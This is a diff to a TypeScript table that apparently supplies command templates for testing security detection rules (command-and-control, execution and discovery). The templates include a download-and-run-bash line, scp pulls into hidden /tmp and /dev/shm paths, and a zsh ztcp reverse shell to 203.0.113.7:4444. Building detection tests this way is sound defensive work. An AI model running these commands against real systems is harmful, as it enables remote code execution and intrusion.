@@ -39,12 +39,17 @@ const USES: Record<string, ListUse[]> = {
     { rule: 'SW-C2-0003', templates: ['{} http://203.0.113.7/x > /tmp/.x'] },
     { rule: 'SW-EXE-0014', templates: ['{} http://203.0.113.7/x.sh > x.sh; bash x.sh'] },
   ],
-  'file-transfer-clients': [{ rule: 'SW-C2-0003', templates: ['{} u@203.0.113.7:/srv/x /tmp/.x'] }],
+  'file-transfer-clients': [
+    {
+      rule: 'SW-C2-0003',
+      templates: ['{} u@203.0.113.7:/srv/x /tmp/.x', '{} u@203.0.113.7:/srv/x /dev/shm/'],
+    },
+  ],
   'socket-runtimes': [
     { rule: 'SW-EXE-0015', templates: ["{} -c 'ztcp 203.0.113.7 4444 && exec /bin/sh >&$REPLY'"] },
   ],
   'discovery-commands': [
-    { rule: 'SW-DIS-0007', templates: ['{} > /tmp/.out', '{} -a >> /dev/shm/x 2>&1'] },
+    { rule: 'SW-DIS-0007', templates: ['{} > /tmp/.out', '{} -a >> /tmp/x 2>&1'] },
   ],
   decoders: [
     {
